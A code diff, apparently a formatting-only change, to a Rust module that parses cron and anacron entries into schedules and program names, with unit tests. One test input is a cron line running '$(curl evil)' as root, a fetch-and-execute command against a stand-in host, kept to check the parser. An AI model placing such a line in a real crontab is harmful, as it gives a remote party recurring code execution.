@@ -35,7 +35,12 @@ pub(super) fn note(answer: &Answer<'_>, notes: &mut Notes<'_>) {
                 "monthly" => "@monthly",
                 _ => continue,
             };
-            notes.of("job.schedule", &format!("cron.{period} {name}"), schedule, "/etc/cron.*");
+            notes.of(
+                "job.schedule",
+                &format!("cron.{period} {name}"),
+                schedule,
+                "/etc/cron.*",
+            );
         }
     }
     timers(answer, notes);
@@ -81,7 +86,9 @@ fn program<'a>(words: impl Iterator<Item = &'a str>) -> String {
             !word.contains('=') && !word.starts_with('-') && !BEFORE.contains(&name)
         });
         // A check such as `[ -x /usr/sbin/x ]` or `cd /` comes first and names no program of its own.
-        let is_check = part.first().is_some_and(|word| ["[", "test", "cd", "command", "true"].contains(word));
+        let is_check = part
+            .first()
+            .is_some_and(|word| ["[", "test", "cd", "command", "true"].contains(word));
         if let Some(word) = first.filter(|_| !is_check) {
             found = found.or(Some(word));
         }
@@ -131,7 +138,11 @@ mod tests {
     fn a_job_is_its_schedule_and_its_program() {
         let job = |path, line| crontab(path, line).map(|(schedule, program)| format!("{schedule} -> {program}"));
         for (path, line, wanted) in [
-            ("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly", "17 * * * * -> run-parts"),
+            (
+                "/etc/crontab",
+                "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
+                "17 * * * * -> run-parts",
+            ),
             (
                 "/etc/cron.d/backup",
                 "0 2 * * 7 postgres PGPASSWORD=hunter2 /usr/bin/pg_dumpall --password=x | gzip",
@@ -142,9 +153,21 @@ mod tests {
                 "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/e2fsprogs/e2scrub_all_cron",
                 "30 3 * * 0 -> e2scrub_all_cron",
             ),
-            ("/var/spool/cron/crontabs/app", "@daily /opt/app/bin/report.sh s3cret", "@daily -> report.sh"),
-            ("/etc/anacrontab", "7 10 cron.weekly run-parts /etc/cron.weekly", "every 7 days -> run-parts"),
-            ("/etc/cron.d/odd", "*/5 * * * * root $(curl evil)", "*/5 * * * * -> command"),
+            (
+                "/var/spool/cron/crontabs/app",
+                "@daily /opt/app/bin/report.sh s3cret",
+                "@daily -> report.sh",
+            ),
+            (
+                "/etc/anacrontab",
+                "7 10 cron.weekly run-parts /etc/cron.weekly",
+                "every 7 days -> run-parts",
+            ),
+            (
+                "/etc/cron.d/odd",
+                "*/5 * * * * root $(curl evil)",
+                "*/5 * * * * -> command",
+            ),
         ] {
             assert_eq!(job(path, line).as_deref(), Some(wanted), "{line}");
         }
